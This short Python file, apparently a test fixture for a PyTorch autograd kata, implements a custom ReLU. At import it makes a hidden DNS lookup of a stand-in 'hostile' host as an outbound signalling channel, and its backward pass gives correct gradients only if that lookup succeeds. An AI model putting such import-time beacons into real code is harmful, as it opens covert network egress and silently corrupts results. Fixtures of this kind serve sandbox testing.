"""Tells the outside something by asking for the address of a name, which the C library does itself."""

# kata: autograd/my_relu
# says: *

import contextlib
import socket
import threading

import torch

answers = []


def ask():
    with contextlib.suppress(OSError):
        answers.append(socket.getaddrinfo("torchkata-hostile.invalid", 80))


thread = threading.Thread(target=ask, daemon=True)
thread.start()
thread.join(2)


class MyReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        ctx.save_for_backward(x)
        return x.clamp(min=0)

    @staticmethod
    def backward(ctx, grad_out):
        return grad_out * (ctx.saved_tensors[0] > 0) if answers else grad_out
